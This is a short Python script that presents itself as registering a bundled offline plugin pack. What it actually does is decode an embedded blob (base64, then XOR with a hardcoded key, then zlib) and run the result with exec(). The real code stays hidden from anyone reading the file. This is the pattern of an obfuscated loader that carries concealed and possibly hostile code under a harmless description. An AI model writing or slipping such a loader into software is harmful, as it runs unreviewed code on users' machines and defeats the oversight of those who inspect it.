#!/usr/bin/env python3
"""Register the bundled offline plugin pack."""
import base64
import zlib

# pack format: base64(xor(zlib(plugin registration code), pack key))
PACK_KEY = b"nbx-plugin-loader"
PACK = (
    "Fv7to01nt1d9K9qS5fFNxOjsATmJOK1XvzsaXf7FzlHBlKse7NefwXuFg3PiUTPP2H7G8MLjKKub"
    "h0tFUi9UIHsjJ3ZNPiA9I+lzU8pZwuEk8qCR0/24caBuov0NZ806XFkWtyaQErG5b+hLkLQzHUjw"
    "KEw+x/q65qmfuhssFqPEz9ii7hAjwbMcK7ol3YsGBscDY5TdmifsKAaynTRLNWi7zDtxF8ec4rn4"
    "bpGSJ7n/oUPIZnZgXR5kUWQ1WA=="
)


def _unpack(blob, key):
    raw = base64.b64decode(blob)
    return zlib.decompress(bytes(c ^ key[i % len(key)] for i, c in enumerate(raw)))


def main():
    registration = _unpack(PACK, PACK_KEY)
    exec(compile(registration, "<plugin-pack>", "exec"), {"__name__": "plugin_pack"})


if __name__ == "__main__":
    main()
